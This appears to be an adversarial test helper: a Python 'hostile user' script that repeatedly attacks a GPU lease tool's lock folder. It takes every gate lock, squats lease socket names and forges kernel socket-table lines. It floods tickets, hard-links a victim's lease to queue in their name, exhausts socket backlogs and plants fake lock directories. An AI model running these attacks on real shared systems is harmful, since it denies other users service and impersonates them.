"""A hostile user: repeats attacks on the lease folder, in turn, until it is killed. Needs only the standard library.

Words: the folder, its prefix of socket names, the uid of a victim, the device ids, and the names of attacks, both with
commas. Prints the name of each attack while it is under way.
"""

import contextlib
import fcntl
import os
import resource
import socket
import sys
import time

FOLDER, PREFIX, VICTIM = sys.argv[1:4]
DEVICES, NAMES = (word.split(",") for word in sys.argv[4:6])
LINE = f"{FOLDER}/tickets" if os.path.isdir(f"{FOLDER}/tickets") else FOLDER
ME = f"{os.geteuid()}-{os.getpid()}"
kept: list = []


def gates():
    """Lock every gate."""
    for device in DEVICES:
        with contextlib.suppress(OSError):
            file = open(f"{FOLDER}/.dibs-gate-{device}")  # noqa: SIM115 - kept until the attack ends
            kept.append(file)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)


def names():
    """Bind the names of all leases without listening."""
    for device in DEVICES:
        _socket(f"{PREFIX}.gpu.{device}")


def table():
    """Forge lines of the kernel's table of sockets."""
    for number, device in enumerate(DEVICES):
        _socket(f"x{number}\n0: 2 0 00010000 0001 01 {number + 7} @{PREFIX}.gpu.{device}")


def tickets():
    """Request everything, many times, with the earliest possible time."""
    devices = ",".join([*DEVICES, *(f"X{number}" for number in range(9000))])
    for number in range(300):
        _ticket(f"{ME}-{number}", f"5 4 {devices} root\n")
    for number in range(40):
        _socket(f"{PREFIX}.ticket.{ME}-{number}", is_heard=True)


def others():
    """Queue, and be served, in the name of the victim."""
    for device in DEVICES:
        with contextlib.suppress(OSError):
            # All users may write the lease file of the user who came first, and so may link it.
            os.link(f"{FOLDER}/.dibs-lease-{device}", f"{LINE}/.dibs-ticket-{VICTIM}-{os.getpid()}-7")
            kept.append(f"{LINE}/.dibs-ticket-{VICTIM}-{os.getpid()}-7")
        with contextlib.suppress(OSError):
            os.link(f"{FOLDER}/.dibs-lease-{device}", f"{LINE}/.dibs-served-{VICTIM}")
    _ticket(f"{VICTIM}-{os.getpid()}-8", f"5 1 {DEVICES[0]} root\n")
    for number in (7, 8):
        _socket(f"{PREFIX}.ticket.{VICTIM}-{os.getpid()}-{number}", is_heard=True)


def backlogs():
    """Connect to the sockets of all leases until they take no more."""
    for device in DEVICES:
        for _ in range(5000):
            made = socket.socket(socket.AF_UNIX)
            made.setblocking(False)
            try:
                made.connect(f"\0{PREFIX}.gpu.{device}")
            except OSError:
                made.close()
                break
            kept.append(made)


def churn():
    """Change the line constantly."""
    until = time.monotonic() + 0.3
    number = 1000
    while time.monotonic() < until:
        number += 1
        _ticket(f"{ME}-{number}", f"5 1 {DEVICES[0]}\n")
        os.unlink(kept.pop())


def plants():
    """Put files that are no locks at the names of missing gates and leases, and close those that are ours."""
    for kind in ("gate", "lease"):
        for device in DEVICES:
            path = f"{FOLDER}/.dibs-{kind}-{device}"
            with contextlib.suppress(OSError):
                os.mkdir(path)
            with contextlib.suppress(OSError):
                os.chmod(path, 0o600)
                kept.append(contextlib.ExitStack())
                kept[-1].callback(os.chmod, path, 0o1666)


def _socket(name, is_heard=False):
    made = socket.socket(socket.AF_UNIX)
    with contextlib.suppress(OSError):
        made.bind("\0" + name)
        if is_heard:
            made.listen()
    kept.append(made)


def _ticket(name, text):
    path = f"{LINE}/.dibs-ticket-{name}"
    with open(path, "w") as file:
        file.write(text)
    kept.append(path)


def stop():
    """Undo an attack, as far as the folder allows."""
    while kept:
        one = kept.pop()
        if isinstance(one, str):
            with contextlib.suppress(OSError):
                os.unlink(one)
        else:
            one.close()


resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
while True:
    for name in NAMES:
        globals()[name]()
        print(name, flush=True)
        # Longer than anybody waits at a gate.
        time.sleep(1.3 if len(NAMES) > 1 else 3600)
        stop()
